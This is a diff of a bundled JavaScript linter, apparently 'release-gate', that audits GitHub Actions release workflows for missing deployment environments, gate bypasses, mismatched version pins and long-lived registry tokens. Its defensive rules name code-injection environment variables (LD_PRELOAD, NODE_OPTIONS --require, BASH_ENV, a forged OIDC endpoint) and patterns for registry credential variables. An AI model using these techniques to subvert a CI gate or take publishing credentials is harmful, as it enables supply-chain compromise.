+    if (!local || !u || u.kind !== 'local' || !u.reusableWorkflow || depth >= MAX_COMPOSITE_DEPTH)
+        return false;
+    const called = local.get(u.path);
+    return !!called && called !== wf && called.jobs.some((j) => publishesThrough(called, j, local, depth + 1));
+}
+/**
+ * @param jobId the job to guard; when absent, the publishing jobs, and when none publish, every job.
+ * @param local local reusable workflows, to see through calls
+ * @throws Error when `jobId` is not a job of the workflow.
+ */
+function selectScope(wf, jobId, local) {
+    if (wf.kind === 'action')
+        return { targets: wf.jobs, jobs: wf.jobs, reason: 'action file: its composite steps', mode: 'all' };
+    if (jobId) {
+        const job = wf.jobs.find((j) => j.id === jobId);
+        if (!job) {
+            const known = wf.jobs.map((j) => j.id).join(', ') || 'none';
+            throw new Error(`job '${jobId}' is not in ${wf.file} (jobs: ${known})`);
+        }
+        return { targets: [job], jobs: needsClosure(wf, [job]), reason: `job '${jobId}' and the jobs it needs`, mode: 'gate' };
+    }
+    const publishing = wf.jobs.filter((j) => publishesThrough(wf, j, local));
+    if (publishing.length) {
+        return {
+            targets: publishing,
+            jobs: needsClosure(wf, publishing),
+            mode: 'publishing',
+            reason: publishing.length > 1
+                ? `publishing jobs ${publishing.map((j) => `'${j.id}'`).join(', ')} and the jobs they need`
+                : `publishing job '${publishing[0].id}' and the jobs it needs`,
+        };
+    }
+    return { targets: wf.jobs, jobs: wf.jobs, reason: 'no job publishes: every job', mode: 'all' };
+}
+
 ;// CONCATENATED MODULE: ./src/audits/missing-environment.ts
 /**
  * missing-environment: the publishing job must declare a deployment `environment:`, so that
  * its protection rules (required reviewers, which refs may deploy) stand between a push and
  * the registry, and trusted publishers can be bound to it.
+ *
+ * Severity (README, "Severity policy"): a job that uploads to a registry without an
+ * environment is an error; a job that only creates or edits a GitHub Release is a warning; so
+ * is a job that runs only after an environment-protected job and holds no OIDC token and no
+ * registry credential. A job that calls a reusable workflow is judged by the called
+ * workflow's publishing jobs, where the environment belongs.
  */
 
+
+
+
+/** A declared, non-empty environment name (an expression counts: it names one at run time). */
+function hasEnvironment(job) {
+    return !!job.environment?.name?.trim();
+}
+/** Does the job's text name a secret other than the run's own GITHUB_TOKEN? */
+function holdsSecret(wf, job) {
+    const text = wf.source.slice(job.node.offset, job.node.end);
+    for (const m of text.matchAll(/\bsecrets\s*\.\s*([A-Za-z_][\w-]*)|\bsecrets\s*\[/gi)) {
+        if (!m[1] || m[1].toLowerCase() !== 'github_token')
+            return true;
+    }
+    return false;
+}
+/** The local reusable workflow a job calls, when it was loaded. */
+function callee(ctx, job, chain) {
+    const u = job.uses?.parsed;
+    if (!u || u.kind !== 'local' || !u.reusableWorkflow)
+        return undefined;
+    const wf = ctx.local.get(u.path);
+    return wf ? { wf, chain: [...chain, job.id, job.uses.value] } : undefined;
+}
 const missing_environment_rule = {
     id: 'missing-environment',
     title: 'publishing job without a deployment environment',
@@ -34061,29 +37851,66 @@ const missing_environment_rule = {
         if (ctx.scope.mode === 'all')
             return [];
         const out = [];
-        for (const job of ctx.scope.targets) {
-            if (job.environment)
-                continue;
-            const elsewhere = ctx.scope.jobs.filter((j) => !ctx.scope.targets.includes(j) && j.environment?.name);
+        const top = ctx.workflow;
+        const judge = (wf, job, chain, jobsOfFile, depth) => {
+            if (hasEnvironment(job))
+                return;
+            if (job.uses) {
+                const c = callee(ctx, job, chain);
+                if (c && depth < MAX_COMPOSITE_DEPTH) {
+                    // the environment belongs on the called workflow's publishing jobs: judge those
+                    for (const j of c.wf.jobs)
+                        if (publishSignals(c.wf, j).length || j.uses)
+                            judge(c.wf, j, c.chain, c.wf.jobs, depth + 1);
+                    return;
+                }
+                const remote = job.uses.parsed.kind === 'repo';
+                out.push(ctx.finding({
+                    message: remote
+                        ? `job ${code(job.id)} publishes through the reusable workflow ${code(job.uses.value)} of another repository, which release-gate could not read here: whether its publishing job declares an environment is not checked`
+                        : `job ${code(job.id)} publishes through the reusable workflow ${code(job.uses.value)}, which could not be read: whether its publishing job declares an environment is not checked`,
+                    fix: 'Declare `environment:` on the publishing job inside the called workflow (a calling job cannot declare one), protect it with required reviewers, and run release-gate online (with a token) so it reads the called workflow.',
+                    at: job.pos,
+                    job: job.id,
+                    file: wf.file,
+                    ...(chain.length ? { chain } : {}),
+                    severity: 'warning',
+                }));
+                return;
+            }
+            const signals = publishSignals(wf, job);
+            const registries = [...new Set(signals.map((s) => s.registry))];
+            const releaseOnly = registries.length > 0 && registries.every((r) => r === 'github-release');
+            const protectedBefore = needsClosure(wf, [job]).filter((j) => j !== job && hasEnvironment(j));
+            const credential = hasIdTokenWrite(wf, job) || holdsSecret(wf, job);
+            let severity = 'error';
+            let why = '';
+            if (releaseOnly) {
+                severity = 'warning';
+                why = ' It only creates or edits a GitHub Release, which a reviewer can still take back.';
+            }
+            else if (protectedBefore.length && !credential) {
+                severity = 'warning';
+                why = ` It runs only after ${protectedBefore.map((j) => code(j.id)).join(', ')}, which ${protectedBefore.length > 1 ? 'are' : 'is'} environment-protected, and holds no OIDC token and no registry credential.`;
+            }
+            const elsewhere = jobsOfFile.filter((j) => j !== job && hasEnvironment(j) && publishSignals(wf, j).length === 0);
             const where = elsewhere.length
                 ? ` The environment ${elsewhere.map((j) => `${code(j.environment.name)} is on job ${code(j.id)}`).join(', ')}, which does not publish: a reviewer approves that job, and the job that publishes runs without approval.`
                 : '';
-            if (job.uses) {
-                out.push(ctx.finding({
-                    message: `job ${code(job.id)} publishes through the reusable workflow ${code(job.uses.value)} with no deployment environment in this file.${where}`,
-                    fix: 'A job that calls a reusable workflow cannot declare `environment:`; declare it on the publishing job inside the called workflow, and protect it with required reviewers.',
-                    at: job.pos,
-                    job: job.id,
-                }));
-                continue;
-            }
             out.push(ctx.finding({
-                message: `publishing job ${code(job.id)} has no \`environment:\`.${where}`,
+                message: job.emptyEnvironment
+                    ? `publishing job ${code(job.id)} declares \`environment:\` ${job.emptyEnvironment.name?.trim() ? `as ${code(job.emptyEnvironment.name)}, which can be empty at run time` : 'with an empty name'}, and GitHub runs a job with an empty environment without one.${where}${why}`
+                    : `publishing job ${code(job.id)} has no \`environment:\`.${where}${why}`,
                 fix: `Add \`environment: release\` (any name) to job ${code(job.id)}, give that environment required reviewers and a deployment tag rule in the repository settings, and bind the registry's trusted publisher to it.`,
-                at: job.pos,
+                at: job.emptyEnvironment?.pos ?? job.pos,
                 job: job.id,
+                file: wf.file,
+                ...(chain.length ? { chain } : {}),
+                ...(severity !== 'error' ? { severity } : {}),
             }));
-        }
+        };
+        for (const job of ctx.scope.targets)
+            judge(top, job, [], ctx.scope.jobs, 0);
         return out;
     },
 };
@@ -34186,6 +38013,143 @@ const overprovisioned_secrets_rule = {
     },
 };
 
+;// CONCATENATED MODULE: ./src/audits/poisoned-environment.ts
+/**
+ * poisoned-environment: the gate's failure must be final. Its verdict is worthless when
+ * - the environment makes the gate's own process (or the publisher's) load other code first
+ *   (`NODE_OPTIONS=--require`, `LD_PRELOAD`, `BASH_ENV`, a forged OIDC endpoint, …: the
+ *   catalogue's `LOADING_ENV`);
+ * - the gate step may be skipped (`if:`) or its failure ignored (`continue-on-error`);
+ * - a later step of the gate's job runs after the gate failed (`always()`, `failure()`,
+ *   `!cancelled()`, `success() || failure()`) and can publish.
+ * Steps before the gate that run code are gate-order's (an error there).
+ */
+
+
+
+
+
+
+
+/** A condition that runs after an earlier step failed (a status function other than success()). */
+const AFTER_FAILURE = /\b(?:always|failure|cancelled)\s*\(/i;
+/** `if:` values that always let the step run when the job runs. */
+function alwaysRuns(cond) {
+    const t = cond.trim().replace(/^\$\{\{([\s\S]*)\}\}$/, '$1').trim().toLowerCase();
+    return t === 'true' || t === 'always()' || t === 'success()' || t === '!cancelled()';
+}
+/** A `continue-on-error:` that may be true (true, or an expression). */
+function mayContinue(node) {
+    if (!node || node.kind !== 'scalar' || node.value === null)
+        return undefined;
+    const v = String(node.value).trim();
+    if (v === 'false' || v === '')
+        return undefined;
+    return v;
+}
+/** A step that cannot publish or run code even when it runs after the gate failed. */
+function harmlessAfterFailure(step) {
+    if (step.run !== undefined)
+        return false;
+    const f = factsOf(step);
+    return !!f && !f.publishes && !f.sinks && !stepPublishes(step);
+}
+const poisoned_environment_rule = {
+    id: 'poisoned-environment',
+    title: 'the gate can be bypassed from inside its job',
+    severity: 'error',
+    check(ctx) {
+        const wf = ctx.workflow;
+        if (wf.kind === 'action' || ctx.scope.mode === 'all')
+            return [];
+        const out = [];
+        const gateRepo = ctx.runtime?.gateRepository;
+        const envFindings = (node, where, job, step) => {
+            if (!node)
+                return;
+            if (node.kind === 'scalar' && typeof node.value === 'string' && node.value.includes('${{')) {
+                out.push(ctx.finding({
+                    message: `${where} sets \`env:\` from an expression (${code(node.value)}): any variable can come out of it, including ones that make the gate load other code`,
+                    fix: 'Write `env:` as a mapping of names to values.',
+                    at: node.pos,
+                    ...(job ? { job: job.id } : {}),
+                    ...(step ? { step } : {}),
+                }));
+                return;
+            }
+            if (node.kind !== 'map')
+                return;
+            for (const p of node.pairs) {
+                const name = literalKey(String(p.key.value));
+                const value = p.value.kind === 'scalar' ? (p.value.value === null ? '' : String(p.value.value)) : '${{ }}';
+                if (value.trim() === '')
+                    continue;
+                const v = name.includes('${{') ? { does: 'can be any variable, one that loads code included' } : loadingVar(name, value);
+                if (!v)
+                    continue;
+                out.push(ctx.finding({
+                    message: `${where} sets ${code(name)}, which ${v.does}: code that is not in this workflow can run before the gate decides, or change its verdict`,
+                    fix: `Remove ${code(name)} from ${where}'s \`env:\`; set what a single build step needs in that step's script instead, outside the publishing job.`,
+                    at: p.key.pos,
+                    ...(job ? { job: job.id } : {}),
+                    ...(step ? { step } : {}),
+                }));
+            }
+        };
+        envFindings(get(wf.yaml.root, 'env'), 'the workflow');
+        for (const job of ctx.scope.targets) {
+            envFindings(get(job.node, 'env'), `job ${code(job.id)}`, job);
+            for (const s of job.steps)
+                envFindings(get(s.node, 'env'), `step ${code(s.name ?? s.id ?? s.uses?.value ?? `${s.index + 1}`)} of job ${code(job.id)}`, job, s);
+            const gi = job.steps.findIndex((s) => isGate(s, gateRepo));
+            if (gi < 0)
+                continue;
+            const gate = job.steps[gi];
+            const jobCoe = mayContinue(get(job.node, 'continue-on-error'));
+            if (jobCoe) {
+                out.push(ctx.finding({
+                    message: `job ${code(job.id)} runs release-gate with \`continue-on-error: ${jobCoe}\`: when the gate blocks, the job's failure is ignored and the jobs that need it still run`,
+                    fix: `Remove \`continue-on-error\` from job ${code(job.id)}.`,
+                    at: get(job.node, 'continue-on-error').pos,
+                    job: job.id,
+                }));
+            }
+            const coe = mayContinue(get(gate.node, 'continue-on-error'));
+            if (coe) {
+                out.push(ctx.finding({
+                    message: `the release-gate step has \`continue-on-error: ${coe}\`: when it blocks, job ${code(job.id)} goes on and publishes`,
+                    fix: 'Remove `continue-on-error` from the release-gate step.',
+                    at: get(gate.node, 'continue-on-error').pos,
+                    job: job.id,
+                    step: gate,
+                }));
+            }
+            if (gate.if && !alwaysRuns(gate.if.value)) {
+                out.push(ctx.finding({
+                    message: `the release-gate step runs only \`if: ${gate.if.value}\`: when that is false the gate is skipped and job ${code(job.id)} publishes unchecked`,
+                    fix: 'Remove `if:` from the release-gate step; put the condition on the job instead.',
+                    at: gate.if.pos,
+                    job: job.id,
+                    step: gate,
+                }));
+            }
+            for (const s of job.steps.slice(gi + 1)) {
+                if (!s.if || !AFTER_FAILURE.test(s.if.value) || harmlessAfterFailure(s))
+                    continue;
+                const what = stepPublishes(s) ? `publishes (${code(stepPublishes(s).evidence)})` : s.run !== undefined ? 'runs a script' : `runs ${code(s.uses?.value ?? 'an action')}`;
+                out.push(ctx.finding({
+                    message: `step ${code(s.name ?? s.id ?? s.uses?.value ?? `${s.index + 1}`)} of job ${code(job.id)} runs \`if: ${s.if.value}\`, also after release-gate failed, and ${what}: the gate's block is not final`,
+                    fix: 'Drop the status function from its `if:` (`always()`, `failure()`, `cancelled()`), so it runs only when the gate passed; a failure notice belongs in a separate job that does not publish.',
+                    at: s.if.pos,
+                    job: job.id,
+                    step: s,
+                }));
+            }
+        }
+        return out;
+    },
+};
+
 ;// CONCATENATED MODULE: ./src/audits/ref-version-mismatch.ts
 /**
  * ref-version-mismatch: `uses: x@<sha> # v1.2.3` where tag v1.2.3 is another commit. The
@@ -34215,152 +38179,30 @@ const ref_version_mismatch_rule = {
                 continue;
             seen.add(key);
             const where = atPin(pin);
-            if ('error' in t) {
-                out.push(ctx.finding({ ...where, message: `the comment says ${code(pin.comment)}, but ${code(`${pin.owner}/${pin.repo}`)} has no such tag`, fix: `Correct the comment to the tag that points at ${pin.ref.slice(0, 12)}.` }));
+            // a failed lookup is a check that could not run (check-failed), never a fact about the tag
+            if ('error' in t)
+                continue;
+            // the release the pinned commit is, from a tag pointing at it (not the comment itself)
+            const known = ctx.online.versions.get(`${pin.owner}/${pin.repo}@${pin.ref}`.toLowerCase());
+            const actual = known && known !== pin.comment ? known : undefined;
+            if ('absent' in t) {
+                out.push(ctx.finding({
+                    ...where,
+                    message: `the comment says ${code(pin.comment)}, but ${code(`${pin.owner}/${pin.repo}`)} has no tag ${code(pin.comment)}`,
+                    fix: actual ? `Change the comment to \`# ${actual}\`, the tag that points at ${pin.ref.slice(0, 12)}.` : `No tag of ${pin.owner}/${pin.repo} points at ${pin.ref.slice(0, 12)}: pin the commit of the release you mean and name its tag in the comment.`,
+                }));
             }
             else if (t.sha.toLowerCase() !== pin.ref.toLowerCase()) {
-                const actual = ctx.online.versions.get(`${pin.owner}/${pin.repo}@${pin.ref}`.toLowerCase());
                 out.push(ctx.finding({
                     ...where,
                     message: `the comment says ${code(pin.comment)}, but ${code(pin.comment)} is commit ${code(t.sha.slice(0, 12))}, not the pinned ${code(pin.ref.slice(0, 12))}${actual ? ` (which is ${code(actual)})` : ''}`,
-                    fix: actual ? `Change the comment to \`# ${actual}\`, or pin ${t.sha} if ${pin.comment} is what you meant.` : `Pin ${t.sha} if ${pin.comment} is what you meant, or correct the comment.`,
+                    fix: actual ? `Change the comment to \`# ${actual}\`, or pin ${t.sha} if ${pin.comment} is what you meant.` : `Pin ${t.sha} if ${pin.comment} is what you meant; no tag points at ${pin.ref.slice(0, 12)}.`,
                 }));
             }
         }
         return out;
     },
 };
-
-;// CONCATENATED MODULE: ./src/workflow/publish.ts
-
-
-/** Actions whose job is to publish, by `owner/repo[/path]` (lower case). */
-const PUBLISHER_ACTIONS = {
-    'pypa/gh-action-pypi-publish': 'pypi',
-    'softprops/action-gh-release': 'github-release',
-    'ncipollo/release-action': 'github-release',
-    'actions/create-release': 'github-release',
-    'actions/upload-release-asset': 'github-release',
-    'svenstaro/upload-release-action': 'github-release',
-    'goreleaser/goreleaser-action': 'github-release',
-    'rubygems/release-gem': 'rubygems',
-    'rubygems/configure-rubygems-credentials': 'rubygems',
-    'js-devtools/npm-publish': 'npm',
-    'changesets/action': 'npm',
-    'release-plz/action': 'crates',
-    'katyo/publish-crates': 'crates',
-    'rust-lang/crates-io-auth-action': 'crates',
-    'cargo-bins/release-pr': 'crates',
-    'googleapis/release-please-action': 'github-release',
-    'docker/build-push-action': 'container',
-    'redhat-actions/push-to-registry': 'container',
-    'sigstore/gh-action-sigstore-python': 'other',
-};
-/** Shell commands that publish, matched against `run:` text. */
-const PUBLISH_COMMANDS = [
-    { re: /\b(?:npm|pnpm)\s+(?:[\w=-]+\s+)*publish\b/, registry: 'npm', label: 'npm publish' },
-    { re: /\byarn\s+(?:npm\s+)?publish\b/, registry: 'npm', label: 'yarn publish' },
-    { re: /\btwine\s+upload\b/, registry: 'pypi', label: 'twine upload' },
-    { re: /\buv\s+publish\b/, registry: 'pypi', label: 'uv publish' },
-    { re: /\b(?:poetry|flit|hatch|pdm)\s+publish\b/, registry: 'pypi', label: 'python publish' },
-    { re: /\bcargo\s+(?:[\w=-]+\s+)*publish\b/, registry: 'crates', label: 'cargo publish' },
-    { re: /\bgem\s+push\b/, registry: 'rubygems', label: 'gem push' },
-    { re: /\b(?:bundle\s+exec\s+)?rake\s+release\b/, registry: 'rubygems', label: 'rake release' },
-    { re: /\bgh\s+release\s+(?:create|upload|edit)\b/, registry: 'github-release', label: 'gh release' },
-    { re: /\b(?:docker|podman)\s+(?:image\s+)?push\b/, registry: 'container', label: 'docker push' },
-    { re: /\bdocker\s+buildx\s+(?:build|bake)\b[^\n]*--push\b/, registry: 'container', label: 'docker buildx --push' },
-    { re: /\bdotnet\s+nuget\s+push\b/, registry: 'nuget', label: 'dotnet nuget push' },
-    { re: /\bmvn\b[^\n]*\bdeploy\b/, registry: 'maven', label: 'mvn deploy' },
-    { re: /\bgoreleaser\s+release\b/, registry: 'github-release', label: 'goreleaser release' },
-    { re: /\banaconda\b[^\n]*\bupload\b/, registry: 'other', label: 'anaconda upload' },
-];
-function actionName(step) {
-    const u = step.uses?.parsed;
-    if (!u || u.kind !== 'repo')
-        return undefined;
-    return (u.path ? `${u.owner}/${u.repo}/${u.path}` : `${u.owner}/${u.repo}`).toLowerCase();
-}
-function publish_truthy(v) {
-    return v !== undefined && !/^(false|0|)$/i.test(v.trim());
-}
-const publishes = new WeakMap();
-/** What a step publishes (memoised per step: several rules ask). */
-function stepPublishes(step) {
-    let v = publishes.get(step);
-    if (v === undefined) {
-        v = detectPublish(step) ?? null;
-        publishes.set(step, v);
-    }
-    return v ?? undefined;
-}
-function detectPublish(step) {
-    const name = actionName(step);
-    if (name) {
-        const base = name.split('/').slice(0, 2).join('/');
-        const reg = PUBLISHER_ACTIONS[name] ?? PUBLISHER_ACTIONS[base];
-        if (reg) {
-            // build-push-action pushes only with `push: true`; changesets only with `publish:`.
-            if (base === 'docker/build-push-action' && !publish_truthy(str(step.with.get('push'))))
-                return undefined;
-            if (base === 'changesets/action' && !step.with.has('publish'))
-                return undefined;
-            return { registry: reg, evidence: step.uses.value, step };
-        }
-    }
-    if (step.run && typeof step.run.value === 'string') {
-        for (const line of logicalLines(step.run.value)) {
-            if (/(^|\s)(--dry-run|-n)(\s|$)/.test(line) && /\b(publish|upload|push)\b/.test(line))
-                continue;
-            for (const c of PUBLISH_COMMANDS) {
-                if (c.re.test(line))
-                    return { registry: c.registry, evidence: c.label, step };
-            }
-        }
-    }
-    return undefined;
-}
-/** Shell lines with `\`-continuations joined and comments dropped. */
-function logicalLines(script) {
-    return script
-        .replace(/\\\r?\n/g, ' ')
-        .split(/\r?\n/)
-        .map((l) => l.replace(/(^|\s)#.*$/, '').trim())
-        .filter(Boolean);
-}
-/** A publish to a test index (TestPyPI): a rehearsal, not a release. */
-function isTestPublish(step) {
-    const url = str(step.with.get('repository-url')) ?? str(step.with.get('repository_url')) ?? '';
-    if (/test\.pypi\.org/.test(url))
-        return true;
-    const run = step.run && typeof step.run.value === 'string' ? step.run.value : '';
-    return /\b(twine\s+upload|uv\s+publish|poetry\s+publish|hatch\s+publish)\b[^\n]*(test\.pypi\.org|(-r|--repository|--index|--repo)[ =]testpypi)/.test(run);
-}
-/** The effective `id-token` permission of a job: its own block, else the workflow's. */
-function hasIdTokenWrite(wf, job) {
-    const p = job.permissions ?? wf.permissions;
-    if (!p)
-        return false;
-    if (p.kind === 'write-all')
-        return true;
-    return p.scopes.get('id-token')?.value === 'write';
-}
-function publishSignals(wf, job) {
-    const out = [];
-    for (const s of job.steps) {
-        const sig = stepPublishes(s);
-        if (sig)
-            out.push(sig);
-    }
-    // `id-token: write` with nothing to explain it may be a publisher we do not know; with an
-    // attestation or signing step it is a build job that signs what it built.
-    if (out.length === 0 && job.permissions && hasIdTokenWrite(wf, job) && !job.steps.some(isSigningStep)) {
-        out.push({ registry: 'other', evidence: 'id-token: write' });
-    }
-    return out;
-}
-function isPublishingJob(wf, job) {
-    return publishSignals(wf, job).length > 0;
-}
 
 ;// CONCATENATED MODULE: ./src/audits/use-trusted-publishing.ts
 /**
@@ -34374,13 +38216,15 @@ function isPublishingJob(wf, job) {
 
 
 
+
 /** Environment variables publishing tools read a registry credential from, by registry. */
 const CREDENTIAL_VARS = [
-    [/^(TWINE_PASSWORD|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|POETRY_PYPI_TOKEN_\w+|HATCH_INDEX_AUTH|FLIT_PASSWORD|PDM_PUBLISH_PASSWORD|PYPI_(API_)?TOKEN)$/, 'PyPI'],
-    [/^(NODE_AUTH_TOKEN|NPM_TOKEN|NPM_AUTH_TOKEN|YARN_NPM_AUTH_TOKEN|NPM_CONFIG__AUTH(TOKEN)?)$/, 'npm'],
-    [/^(CARGO_REGISTRY_TOKEN|CARGO_REGISTRIES_CRATES_IO_TOKEN)$/, 'crates.io'],
-    [/^(GEM_HOST_API_KEY|RUBYGEMS_API_KEY|RUBYGEMS_AUTH_TOKEN)$/, 'RubyGems'],
-    [/^(NUGET_API_KEY|NUGET_AUTH_TOKEN)$/, 'NuGet'],
+    // maturin reads MATURIN_PYPI_TOKEN, or MATURIN_PASSWORD with MATURIN_USERNAME=__token__ (its docs)
+    [/^(TWINE_PASSWORD|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|POETRY_PYPI_TOKEN_\w+|HATCH_INDEX_AUTH|FLIT_PASSWORD|PDM_PUBLISH_PASSWORD|MATURIN_PYPI_TOKEN|MATURIN_PASSWORD|PYPI_(API_)?TOKEN)$/i, 'PyPI'],
+    [/^(NODE_AUTH_TOKEN|NPM_TOKEN|NPM_AUTH_TOKEN|YARN_NPM_AUTH_TOKEN|NPM_CONFIG__AUTH(TOKEN)?)$/i, 'npm'],
+    [/^(CARGO_REGISTRY_TOKEN|CARGO_REGISTRIES_CRATES_IO_TOKEN)$/i, 'crates.io'],
+    [/^(GEM_HOST_API_KEY|RUBYGEMS_API_KEY|RUBYGEMS_AUTH_TOKEN)$/i, 'RubyGems'],
+    [/^(NUGET_API_KEY|NUGET_AUTH_TOKEN)$/i, 'NuGet'],
 ];
 /** Secret names that look like a registry token (passed to a reusable workflow). */
 const REGISTRY_SECRET = /(pypi|npm|cargo|crates|rubygems|gem_host|nuget)[\w-]*(token|key|password|pass|secret)|(token|key|password)[\w-]*(pypi|npm|cargo|crates|rubygems|nuget)/i;
@@ -34399,19 +38243,19 @@ function secretNames(text) {
 function registryOf(name) {
     return CREDENTIAL_VARS.find(([re]) => re.test(name))?.[1];
 }
-function scalarText(n) {
+function use_trusted_publishing_scalarText(n) {
     return n && n.kind === 'scalar' && n.value !== null ? String(n.value) : '';
 }
 /** Registries the step publishes to without trusted publishing (a credential is its only way in). */
 function customIndex(step) {
     if (isAction(step, 'pypa/gh-action-pypi-publish')) {
         const url = input(step, 'repository-url') ?? input(step, 'repository_url') ?? '';
-        return url !== '' && !/(^|\/\/)(upload\.|test\.)?pypi\.org\b/.test(url);
+        return url !== '' && !/(^|\/\/)(upload\.|test\.)?pypi\.org\b/i.test(url);
     }
     return false;
 }
 /** Publish commands in a script that take a credential from a secret or a secret-bound variable. */
-const FLAG_CREDENTIAL = /\b(twine\s+upload|uv\s+publish|poetry\s+publish|cargo\s+publish|cargo\s+login|gem\s+push|dotnet\s+nuget\s+push|nuget\s+push|npm\s+publish|poetry\s+config\s+pypi-token)\b[^\n]*?(?:(?:-p|--password|--token|-t|--api-key|-k|-u\s+__token__\s+-p)[ =]|pypi-token\.\w+\s+|login\s+)["']?(\$\{\{[^}]*\}\}|\$\{?\w+\}?)/;
+const FLAG_CREDENTIAL = /\b(twine\s+upload|uv\s+publish|poetry\s+publish|cargo\s+publish|cargo\s+login|gem\s+push|dotnet\s+nuget\s+push|nuget\s+push|npm\s+publish|poetry\s+config\s+pypi-token)\b(?:(?!\b(?:twine\s+upload|uv\s+publish|poetry\s+publish|cargo\s+publish|cargo\s+login|gem\s+push|dotnet\s+nuget\s+push|nuget\s+push|npm\s+publish|poetry\s+config\s+pypi-token)\b)[^\n])*?(?:(?:-p|--password|--token|-t|--api-key|-k|-u\s+__token__\s+-p)[ =]|pypi-token\.\w+\s+|login\s+)["']?(\$\{\{(?:(?!\$\{\{)[^}])*\}\}|\$\{?\w+\}?)/;
 const use_trusted_publishing_rule = {
     id: 'use-trusted-publishing',
     title: 'long-lived registry token used to publish',
@@ -34431,7 +38275,7 @@ const use_trusted_publishing_rule = {
             const job = site.job;
             if (job.uses && job.secrets && job.secrets.node.kind === 'map') {
                 for (const p of job.secrets.node.pairs) {
-                    const names = [String(p.key.value), ...secretNames(scalarText(p.value))];
+                    const names = [String(p.key.value), ...secretNames(use_trusted_publishing_scalarText(p.value))];
                     const hit = names.find((n) => REGISTRY_SECRET.test(n));
                     if (hit) {
                         add(ctx.finding({ message: `job ${code(job.id)} passes the registry token ${code(hit)} to ${code(job.uses.value)}`, fix: fix('the registry'), ...atJob(site, p.key.pos) }));
@@ -34445,7 +38289,7 @@ const use_trusted_publishing_rule = {
                 const m = new Map();
                 for (const env of [site.wf.env, job.env, s.env]) {
                     for (const [k, v] of env) {
-                        const sec = secretNames(scalarText(v))[0];
+                        const sec = secretNames(use_trusted_publishing_scalarText(v))[0];
                         if (sec)
                             m.set(k, { secret: sec, pos: v.pos });
                     }
@@ -34454,18 +38298,63 @@ const use_trusted_publishing_rule = {
             };
             for (const s of steps) {
                 const step = s.step;
-                if (isAction(step, 'pypa/gh-action-pypi-publish') && step.with.has('password') && !customIndex(step)) {
-                    const v = step.with.get('password');
-                    add(ctx.finding({ message: `${code(step.uses.value)} is given ${code(`password: ${scalarText(v)}`)}, a long-lived PyPI token`, fix: `${fix('PyPI')} Then remove \`password:\`: the action uses trusted publishing by default.`, ...atStep(s, v.pos) }));
+                // inputs by the runner's reading: `PASSWORD:` is `password:` (withNode)
+                if (isAction(step, 'pypa/gh-action-pypi-publish') && withNode(step, 'password') && use_trusted_publishing_scalarText(withNode(step, 'password')).trim() !== '' && !customIndex(step)) {
+                    const v = withNode(step, 'password');
+                    add(ctx.finding({ message: `${code(step.uses.value)} is given ${code(`password: ${use_trusted_publishing_scalarText(v)}`)}, a long-lived PyPI token`, fix: `${fix('PyPI')} Then remove \`password:\`: the action uses trusted publishing by default.`, ...atStep(s, v.pos) }));
                 }
                 if (isAction(step, 'rubygems/release-gem') && isFalse(input(step, 'setup-trusted-publisher'))) {
-                    add(ctx.finding({ message: `${code(step.uses.value)} has trusted publishing turned off`, fix: fix('RubyGems'), ...atStep(s, step.with.get('setup-trusted-publisher').pos) }));
+                    add(ctx.finding({ message: `${code(step.uses.value)} has trusted publishing turned off`, fix: fix('RubyGems'), ...atStep(s, withNode(step, 'setup-trusted-publisher').pos) }));
                 }
-                if (isAction(step, 'rubygems/configure-rubygems-credentials') && step.with.has('api-token')) {
-                    add(ctx.finding({ message: `${code(step.uses.value)} is given a long-lived RubyGems API key`, fix: fix('RubyGems'), ...atStep(s, step.with.get('api-token').pos) }));
+                if (isAction(step, 'rubygems/configure-rubygems-credentials') && withNode(step, 'api-token')) {
+                    add(ctx.finding({ message: `${code(step.uses.value)} is given a long-lived RubyGems API key`, fix: fix('RubyGems'), ...atStep(s, withNode(step, 'api-token').pos) }));
                 }
                 const vars = bound(step);
                 const publishes = !!stepPublishes(step);
+                // docker login with a stored password, in a job that pushes images
+                if (isAction(step, 'docker/login-action') && jobPublishes) {
+                    const pw = withNode(step, 'password');
+                    const pwSecret = secretNames(use_trusted_publishing_scalarText(pw))[0] ?? (vars.get(use_trusted_publishing_scalarText(pw).replace(/^\$\{?|\}?$/g, ''))?.secret);
+                    const reg = containerRegistry(input(step, 'registry') ?? '');
+                    if (pw && pwSecret && reg && !/^github_token$/i.test(pwSecret)) {
+                        add(ctx.finding({
+                            message: `${code(step.uses.value)} logs in to ${reg.name} with the stored password ${code(`secrets.${pwSecret}`)}`,
+                            fix: reg.fix
+                                ? reg.fix
+                                : reg.oidc
+                                    ? `Log in to ${reg.name} with the job's OIDC token (federation: give the job \`id-token: write\` and use the cloud's login action), and delete the stored password.`
+                                    : `${reg.name} takes no OIDC token: use a scoped access token that can only push this repository's images, keep it in the deployment environment's secrets, and rotate it.`,
+                            ...atStep(s, pw.pos),
+                            ...(reg.oidc ? {} : { severity: 'warning' }),
+                        }));
+                    }
+                }
+                // `export UV_PUBLISH_TOKEN=…` / `TWINE_PASSWORD=… twine upload` inside the script
+                const script = step.run && typeof step.run.value === 'string' ? step.run.value : '';
+                for (const m of script.matchAll(/(?:^|[\s;&|(])(?:export\s+)?([A-Za-z_]\w*)=["']?(\$\{\{(?:(?!\$\{\{)[^}])*\}\}|\$\{?\w+\}?)/g)) {
+                    const registry = registryOf(m[1]);
+                    const sec = secretNames(m[2])[0] ?? vars.get(m[2].replace(/^\$\{?|\}?$/g, ''))?.secret;
+                    if (registry && sec && (publishes || jobPublishes)) {
+                        add(ctx.finding({ message: `the script sets ${code(m[1])} from the long-lived ${registry} credential ${code(`secrets.${sec}`)}`, fix: fix(registry), ...atStep(s, step.run.pos) }));
+                    }
+                }
+                // a registry token handed to a step the gate cannot read (an action the catalogue does
+                // not know, a Docker image): it may publish with it, or send it anywhere
+                const u = step.uses?.parsed;
+                if (u && (u.kind === 'docker' || (u.kind === 'repo' && !factsOf(step)))) {
+                    for (const [k, v] of [...step.with, ...step.env]) {
+                        const hit = secretNames(use_trusted_publishing_scalarText(v)).find((n) => REGISTRY_SECRET.test(n) || !!registryOf(n)) ?? (registryOf(k) && secretNames(use_trusted_publishing_scalarText(v))[0]);
+                        if (hit) {
+                            add(ctx.finding({
+                                message: `${code(step.uses.value)}, which the gate cannot read, is given the registry token ${code(`secrets.${hit}`)} (${code(k)})`,
+                                fix: `${fix('the registry')} If this step must publish, use an action the gate knows, or list this one in \`allow:\` with the reason.`,
+                                ...atStep(s, v.pos),
+                                severity: 'warning',
+                                subject: step.uses.value,
+                            }));
+                        }
+                    }
+                }
                 for (const [name, b] of vars) {
